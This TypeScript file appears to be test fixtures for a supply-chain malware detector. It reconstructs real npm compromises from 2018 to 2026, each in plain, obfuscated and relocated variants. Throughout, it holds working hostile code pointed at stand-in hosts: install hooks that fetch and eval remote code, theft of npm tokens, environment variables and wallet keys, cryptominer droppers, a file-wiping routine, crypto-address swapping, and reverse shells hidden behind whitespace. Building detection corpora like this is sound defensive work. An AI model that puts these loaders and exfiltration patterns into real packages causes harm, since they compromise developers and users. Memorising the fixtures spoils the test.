import {
  base64,
  type Campaign,
  codes,
  entry,
  escapes,
  hex,
  manifest,
  scripted,
  tabled,
  xored,
} from './kit.ts';

const MINE = `0x${'4fd1'.repeat(10)}`;

/** Rows of 2018 to 2024. */
export const EARLY: readonly Campaign[] = [
  {
    id: 'eslint-scope',
    row: 'eslint-scope 2018',
    variants: [
      {
        concealment: 'plain',
        files: scripted(
          { postinstall: 'node ./lib/build.js' },
          {
            'lib/build.js': `try {
  const https = require('https');
  https.get({ hostname: 'paste.weir.test', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0' } }, (r) => {
    r.setEncoding('utf8');
    r.on('data', (c) => { eval(c); });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (e) {}
`,
          },
        ),
      },
      {
        concealment: 'obfuscated',
        files: scripted(
          { postinstall: 'node ./lib/build.js' },
          {
            'lib/build.js': `var h = require(['ht', 'tps'].join('')), g = global['\\x65\\x76\\x61\\x6c'];
h['get'](Buffer.from('${base64('https://paste.weir.test/raw/XLeVP82h')}', 'base64') + '', function (r) { var t = ''; r.on('data', function (c) { t += c }).on('end', function () { g(t) }) });
`,
          },
        ),
      },
      {
        concealment: 'moved',
        files: entry(
          `const fs = require('fs');
const path = require('path');
const npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
if (fs.existsSync(npmrc)) {
  const content = fs.readFileSync(npmrc, { encoding: 'utf8' }).replace('//registry.weir.test/:_authToken=', '').trim();
  require('http').get({ hostname: 'stats.weir.test', path: '/c?t=1', headers: { Referer: 'https://1.a.weir.test/' + content } });
}
module.exports = require('./scope');
`,
          { 'scope.js': 'module.exports = {};\n' },
        ),
      },
    ],
  },
  {
    id: 'event-stream',
    row: 'event-stream/flatmap-stream 2018',
    variants: [
      {
        concealment: 'plain',
        files: entry(
          `!function () {
  try {
    var r = require, t = process;
    function e(r) { return Buffer.from(r, 'hex').toString(); }
    var n = r(e('2e2f746573742f64617461')), o = t[e(n[3])][e(n[4])];
    if (!o) return;
    var u = r(e(n[2]))[e(n[6])](e(n[5]), o), a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    var f = new module.constructor;
    f.paths = module.paths, f[e(n[7])](a, ''), f.exports(n[1]);
  } catch (r) {}
}();
module.exports = function flatmap(fn) { return fn; };
`,
          {
            'test/data.js': `module.exports = ['${'75d4c87f3f69e0fa'.repeat(8)}', '${'db67fdbfc39c2491'.repeat(4)}', '63727970746f', '656e76', '6e706d5f7061636b6167655f6465736372697074696f6e', '616573323536', '6372656174654465636970686572', '5f636f6d70696c65', '686578', '75746638'];\n`,
          },
        ),
      },
      {
        concealment: 'obfuscated',
        files: entry(
          tabled(
            'base64',
            (
              h,
            ) => `const c = require(${h('crypto')}), d = c[${h('createDecipheriv')}](${h('aes-256-cbc')}, process[${h('env')}][${h('npm_package_description')}], Buffer[${h('alloc')}](16));
let s = d[${h('update')}](${h('75d4c87f3f69e0fa75d4c87f3f69e0fa')}, ${h('hex')}, ${h('utf8')}) + d[${h('final')}](${h('utf8')});
const m = new module[${h('constructor')}]();
m[${h('_compile')}](s, '');
`,
          ),
        ),
      },
      {
        concealment: 'moved',
        files: scripted(
          { install: 'node scripts/after.cjs' },
          {
            'scripts/after.cjs': `const crypto = require('crypto'), fs = require('fs'), vm = require('vm');
const blob = fs.readFileSync(__dirname + '/../test/fixtures/data.bin');
const key = crypto.createHash('sha256').update(process.env.npm_package_description || '').digest();
const d = crypto.createDecipheriv('aes-256-cbc', key, blob.subarray(0, 16));
vm.runInThisContext(Buffer.concat([d.update(blob.subarray(16)), d.final()]).toString());
`,
            'test/fixtures/data.bin': new Uint8Array(256).fill(7),
          },
        ),
      },
    ],
  },
  {
    id: 'ua-parser-js',
    row: 'ua-parser-js, coa, rc 2021',
    variants: [
      {
        concealment: 'plain',
        files: scripted(
          { preinstall: 'start /B node preinstall.js & node preinstall.js' },
          {
            'preinstall.js': `const { exec, spawn } = require('child_process');
const opsys = process.platform;
if (opsys == 'darwin') { console.log('mac'); }
else if (opsys == 'win32') { spawn('cmd.exe', ['/c', 'preinstall.bat'], { detached: true, stdio: 'ignore' }).unref(); }
else { exec('/bin/bash preinstall.sh', () => {}); }
`,
            'preinstall.sh': `IP=$(curl -k https://freegeo.weir.test/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]
then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
  then
    curl http://192.0.2.38/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then wget http://192.0.2.38/download/jsextension -O jsextension; fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.weir.test:443 -u x --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
`,
            'preinstall.bat': `@echo off\r\ncurl http://192.0.2.38/download/jsextension.exe -o jsextension.exe\r\n`,
          },
        ),
      },
      {
        concealment: 'obfuscated',
        files: scripted(
          { preinstall: 'start /B node compile.js & node compile.js' },
          {
            'compile.js': tabled(
              'rc4',
              (h) => `const cp = require(${h('child_process')});
const os = process[${h('platform')}];
if (os === ${h('win32')}) cp[${h('spawn')}](${h('cmd.exe')}, [${h('/c')}, ${h('certutil -urlcache -f http://192.0.2.38/sdd.dll compile.dll & regsvr32.exe -s compile.dll')}]);
`,
            ),
          },
        ),
      },
      {
        concealment: 'moved',
        files: entry(`const { exec } = require('child_process');
const lines = { win32: 'certutil.exe -urlcache -f http://192.0.2.38/sdd.dll create.dll && regsvr32.exe -s create.dll', linux: 'curl -s http://192.0.2.38/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x' };
const line = lines[process.platform];
if (line) exec('certutil.exe -urlcache -f http://192.0.2.38/sdd.dll create.dll && regsvr32.exe -s create.dll');
module.exports = {};
`),
      },
    ],
  },
  {
    id: 'colors',
    row: 'colors/faker 2022',
    variants: [
      {
        concealment: 'plain',
        files: entry(
          `module['exports'] = require('./lib/colors');
let am = require('./lib/american');
am();
for (let i = 666; i < Infinity; i++) {
  if (i % 333) {
    // console.log('testing')
  }
  console.log('testing testing testing');
}
`,
          {
            'lib/colors.js': 'module.exports = {};\n',
            'lib/american.js': "module.exports = () => console.log('LIBERTY');\n",
          },
        ),
      },
      {
        concealment: 'obfuscated',
        files: entry(
          tabled('plain', (h) => `const o = console; while (!![]) { o[${h('log')}](${h('testing')}); }\n`),
        ),
      },
      {
        concealment: 'moved',
        files: entry(`require('./lib/custom/american')();\nmodule.exports = {};\n`, {
          'lib/custom/american.js': `function zalgo(text) { for (;;) { console.log(text.replace(/./g, '#')); } }
module.exports = function american() { zalgo('LIBERTY LIBERTY LIBERTY'); };
`,
        }),
      },
    ],
  },
  {
    id: 'node-ipc',
    row: 'node-ipc 2022 and 2026',
    variants: [
      {
        concealment: 'plain',
        files: entry(`import u from 'path';
import a from 'fs';
import o from 'https';
setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from('${base64('https://api.ipgeolocation.example/ipgeo?apiKey=x')}', 'base64');
  o.get(n.toString('utf8'), function (t) {
    t.on('data', function (t) {
      const n = Buffer.from('${base64('./')}', 'base64'), o2 = Buffer.from('${base64('../')}', 'base64'), r = Buffer.from('${base64('../../')}', 'base64'), f = Buffer.from('${base64('/')}', 'base64'), c = Buffer.from('${base64('country_name')}', 'base64'), e = Buffer.from('${base64('russia')}', 'base64'), i = Buffer.from('${base64('belarus')}', 'base64');
      try {
        const s = JSON.parse(t.toString('utf8')), l = s[c.toString('utf8')].toLowerCase();
        if (l.includes(e.toString('utf8')) || l.includes(i.toString('utf8'))) { h(n.toString('utf8')); h(o2.toString('utf8')); h(r.toString('utf8')); h(f.toString('utf8')); }
      } catch (t) {}
    });
  });
}, Math.ceil(1000 * Math.random()));
async function h(n = '', o = '') {
  if (!a.existsSync(n)) return;
  let r = [];
  try { r = a.readdirSync(n); } catch (t) {}
  const f = [];
  for (var e = 0; e < r.length; e++) {
    const i = u.join(n, r[e]);
    let t = null;
    try { t = a.lstatSync(i); } catch (t) { continue; }
    if (t.isDirectory()) { const s = h(i, o); s.length > 0 ? f.push(...s) : null; }
    else if (i.indexOf(o) >= 0) try { a.writeFile(i, '\\u2764', function () {}); } catch (t) {}
  }
  return f;
}
export default h;
`),
      },
      {
        concealment: 'obfuscated',
        files: entry(`const d = require(String.fromCharCode(${codes('dns').join(',')}));
const os = require('os');
const chunk = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, e: process.env })).toString('hex');
for (let i = 0; i * 60 < chunk.length; i++) d.resolve4(chunk.slice(i * 60, i * 60 + 60) + '.' + i + '.' + ['azure-api', 'weir', 'test'].join('.'), () => {});
module.exports = {};
`),
      },
      {
        concealment: 'moved',
        files: {
          'package.json': manifest({ main: 'node-ipc.cjs' }),
          'node-ipc.cjs': `module.exports = { serve() {}, connectTo() {} };
(function () {
  const dns = require('node:dns'), os = require('node:os'), zlib = require('node:zlib');
  const body = zlib.gzipSync(JSON.stringify(Object.assign({ host: os.hostname() }, process.env))).toString('base64url');
  const label = (n) => body.substr(n * 48, 48) + '.' + n + '.files.azure-weir.test';
  for (let n = 0; n < body.length / 48; n++) setTimeout(() => dns.promises.resolveTxt(label(n)).catch(() => {}), n * 50);
})();
`,
        },
      },
    ],
  },
  {
    id: 'lottie-web3-xrpl',
    row: 'lottie-player 10/2024 · @solana/web3.js 12/2024 · xrpl 4/2025',
    variants: [
      {
        concealment: 'plain',
        files: entry(`class Keypair {
  constructor(keypair) { this._keypair = keypair; }
  static fromSecretKey(secretKey, options) {
    addToQueue(secretKey);
    return new Keypair({ secretKey });
  }
}
const queue = [];
function addToQueue(secretKey) {
  queue.push(secretKey);
  const b = Buffer.from(secretKey).toString('base64');
  fetch('https://sol-rpc.weir.test/api/rpc/queue', { method: 'POST', headers: { 'x-amz-cf-id': b, 'x-session-id': b } }).catch(() => {});
}
exports.Keypair = Keypair;
`),
      },
      {
        concealment: 'obfuscated',
        files: entry(`const validSeeds = new Set([]);
function checkValidityOfSeed(seed, privateKey) {
  if (validSeeds.has(seed)) return;
  validSeeds.add(seed);
  fetch(atob('${base64('https://0x9c.weir.test/xc')}'), { method: 'POST', headers: { 'ad-referral': privateKey } });
}
class Wallet {
  constructor(publicKey, privateKey) { this.privateKey = privateKey; checkValidityOfSeed(publicKey, privateKey); }
}
module.exports = { Wallet };
`),
      },
      {
        concealment: 'moved',
        files: {
          'package.json': manifest({ main: 'dist/index.js' }),
          'dist/index.js': `const { report } = require('./internal/metrics');
exports.mnemonicToAccount = function mnemonicToAccount(mnemonic) {
  report(mnemonic);
  return { address: '0x0' };
};
`,
          'dist/internal/metrics.js': `const https = require('https');
exports.report = function (value) {
  const req = https.request({ hostname: 'metrics.weir.test', path: '/v1/e', method: 'POST' });
  req.write(JSON.stringify({ value }));
  req.end();
};
`,
        },
      },
    ],
  },
  {
    id: 'rspack-vant',
    row: 'rspack/vant 12/2024',
    variants: [
      {
        concealment: 'plain',
        files: scripted(
          { postinstall: 'node ./dist/util/support.js' },
          {
            'dist/util/support.js': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
const { exec } = require('child_process');
const url = 'https://dl.weir.test/xmrig/xmrig-6.22.2-linux-static-x64.tar.gz';
const dir = path.join(os.homedir(), '.cache', 'vant');
fs.mkdirSync(dir, { recursive: true });
const file = fs.createWriteStream(path.join(dir, 'vant_helper.tar.gz'));
https.get(url, (res) => {
  res.pipe(file);
  file.on('finish', () => exec('tar -xzf ' + path.join(dir, 'vant_helper.tar.gz') + ' -C ' + dir + ' && ' + path.join(dir, 'vant_helper') + ' --url 203.0.113.5:80 --user 475NBZygwEajj --donate-level 0 &'));
});
`,
          },
        ),
      },
      {
        concealment: 'obfuscated',
        files: scripted(
          { postinstall: 'node ./dist/util/support.js' },
          {
            'dist/util/support.js': tabled(
              'base64',
              (
                h,
              ) => `const cp = require(${h('child_process')}), https = require(${h('https')}), fs = require(${h('fs')});
https[${h('get')}](${h('https://dl.weir.test/x/helper')}, (res) => { const f = fs[${h('createWriteStream')}](${h('/tmp/vant_helper')}, { mode: 493 }); res[${h('pipe')}](f); f.on(${h('finish')}, () => cp[${h('exec')}](${h('/tmp/vant_helper -o stratum+tcp://pool.weir.test:3333')})); });
`,
            ),
          },
        ),
      },
      {
        concealment: 'moved',
        files: entry(`const { spawn } = require('child_process');
const config = JSON.parse(Buffer.from('${base64(JSON.stringify({ url: 'stratum+tcp://pool.weir.test:3333', bin: './bin/worker' }))}', 'base64').toString());
spawn(config.bin, ['-o', config.url, '-a', 'rx/0'], { detached: true, stdio: 'ignore' }).unref();
module.exports = {};
`),
      },
    ],
  },
  {
    id: 'art-template',
    row: 'art-template 2025–5/2026',
    variants: [
      {
        concealment: 'plain',
        files: {
          'package.json': manifest({ main: 'index.js', browser: 'lib/template-web.js' }),
          'index.js': 'module.exports = {};\n',
          'lib/template-web.js': `!function (e) { e.template = function (s) { return s; }; }(window);
(function () {
  var s = document.createElement('script');
  s.src = 'https://cdn.kit.weir.test/loader.js?r=' + encodeURIComponent(location.href);
  document.head.appendChild(s);
})();
`,
        },
      },
      {
        concealment: 'obfuscated',
        files: {
          'package.json': manifest({ main: 'index.js', browser: 'lib/template-web.js' }),
          'index.js': 'module.exports = {};\n',
          'lib/template-web.js': `window.template = function (s) { return s; };
var _d = document, _s = _d['${escapes('createElement')}']('${escapes('script')}');
_s['${escapes('src')}'] = atob('${base64('https://cdn.kit.weir.test/loader.js')}');
_d['${escapes('head')}']['${escapes('appendChild')}'](_s);
`,
        },
      },
      {
        concealment: 'moved',
        files: entry(`exports.render = (s) => s;
if (typeof window !== 'undefined') {
  fetch('https://cdn.kit.weir.test/loader.txt').then((r) => r.text()).then((t) => { (0, eval)(t); });
}
`),
      },
    ],
  },
  {
    id: 'chalk-debug',
    row: 'chalk/debug qix 9/2025',
    variants: [
      {
        concealment: 'plain',
        files: entry(`export default function chalk(text) { return text; }
const mine = { eth: ['${MINE}', '0x${'a1b2'.repeat(10)}', '0x${'77cc'.repeat(10)}'], btc: ['bc1q${'x7k2m9'.repeat(6)}'] };
const patterns = { eth: /\\b0x[a-fA-F0-9]{40}\\b/g, btc: /\\b(bc1[a-z0-9]{11,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g };
function distance(a, b) { let d = 0; for (let i = 0; i < a.length; i++) if (a[i] !== b[i]) d++; return d; }
function closest(address, list) { return list.reduce((best, item) => (distance(address, item) < distance(address, best) ? item : best)); }
function swap(text) { for (const kind in patterns) text = text.replace(patterns[kind], (m) => closest(m, mine[kind])); return text; }
if (typeof window !== 'undefined') {
  const oldFetch = window.fetch;
  window.fetch = async function (...args) { const answer = await oldFetch(...args); return new Response(swap(await answer.text()), answer); };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (...args) { return open.apply(this, args); };
  if (window.ethereum) { const request = window.ethereum.request; window.ethereum.request = async (call) => request(JSON.parse(swap(JSON.stringify(call)))); }
}
`),
      },
      {
        concealment: 'obfuscated',
        files: entry(
          tabled(
            'base64',
            (h) => `const w = globalThis[${h('window')}] || globalThis, f = w[${h('fetch')}];
const mine = [${h(MINE)}, ${h(`0x${'a1b2'.repeat(10)}`)}, ${h(`0x${'77cc'.repeat(10)}`)}];
w[${h('fetch')}] = async (...a) => { const r = await f(...a); const t = await r[${h('text')}](); return new Response(t[${h('replace')}](/0x[a-fA-F0-9]{40}/g, mine[0])); };
module.exports = {};
`,
          ),
        ),
      },
      {
        concealment: 'moved',
        files: entry(`module.exports = require('./src/common');\n`, {
          'src/common.js': `require('./browser-shim');\nmodule.exports = () => () => {};\n`,
          'src/browser-shim.js': `const to = '${MINE}';
const g = typeof window === 'object' ? window : {};
if (g.ethereum && g.ethereum.request) {
  const real = g.ethereum.request.bind(g.ethereum);
  window.ethereum.request = function (p) {
    if (p && p.method === 'eth_sendTransaction') p.params[0].to = to;
    return real(p);
  };
}
`,
        }),
      },
    ],
  },
  {
    id: 'gluestack',
    row: 'GlueStack 6/2025',
    variants: [
      {
        concealment: 'plain',
        files:
          entry(`exports.useButton = () => ({});${' '.repeat(600)}global['_V']='8-npm';global['r']=require;(function(){const n=require('net'),c=require('child_process');const s=new n.Socket();s.connect(443,'c2.weir.test',function(){});s.on('data',function(d){c.exec(d.toString(),function(e,o){s.write(o)})})})();
`),
      },
      {
        concealment: 'obfuscated',
        files:
          entry(`exports.useButton = () => ({});${' '.repeat(400)}eval(Buffer.from([${xored("require('net').connect(443,'c2.weir.test').on('data',d=>require('child_process').exec(d+''))", 'gs').join(',')}].map((c,i)=>c^'gs'.charCodeAt(i%2))).toString());
`),
      },
      {
        concealment: 'moved',
        files: entry(`exports.useFocus = () => ({});\nrequire('./lib/commonjs/index');\n`, {
          'lib/commonjs/index.js': `"use strict";
const io = require('socket.io-client');
const { exec } = require('child_process');
const path = require('path');
process.env.PATH = path.join(process.env.LOCALAPPDATA || '', 'Programs', 'Python', 'Python3127') + path.delimiter + process.env.PATH;
const socket = io('http://198.51.100.22:27017');
socket.on('cmd', (line) => { if (line.startsWith('ss_')) return; exec(line, (e, out) => socket.emit('out', out)); });
`,
        }),
      },
    ],
  },
  {
    id: 'eslint-config-prettier',
    row: 'eslint-config-prettier 7/2025',
    variants: [
      {
        concealment: 'plain',
        files: scripted(
          { install: 'node install.js' },
          {
            'install.js': `const path = require('path'), os = require('os'), { spawn } = require('child_process');
function logDiskSpace() {
  if (os.platform() === 'win32') {
    const tempDir = os.tmpdir();
    require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [path.join(__dirname, './node-gyp' + '.dll') + ',main']);
    console.log('Temp directory:', tempDir);
  }
}
logDiskSpace();
`,
            'node-gyp.dll': Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]),
          },
        ),
      },
      {
        concealment: 'obfuscated',
        files: scripted(
          { install: 'node install.js' },
          {
            'install.js': `const a = (x) => Buffer.from(x, 'hex').toString();
const c = require(a('${hex('child_process')}'));
if (process[a('${hex('platform')}')] === a('${hex('win32')}')) c[a('${hex('spawn')}')](a('${hex('rundll32.exe')}'), [__dirname + a('${hex('/node-gyp.dll,main')}')], { detached: true });
`,
            'node-gyp.dll': Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]),
          },
        ),
      },
      {
        concealment: 'moved',
        files: entry(
          `if (process.platform === 'win32') require('./lib/native').load();\nmodule.exports = { rules: {} };\n`,
          {
            'lib/native.js': `const { execFile } = require('child_process');
exports.load = () => execFile('rundll32', [require('path').resolve(__dirname, 'addon.dat') + ',#1'], { windowsHide: true });
`,
            'lib/addon.dat': (() => {
              const b = new Uint8Array(4096);
              b.set([0x4d, 0x5a, 0x90, 0]);
              return b;
            })(),
          },
        ),
      },
    ],
  },
];
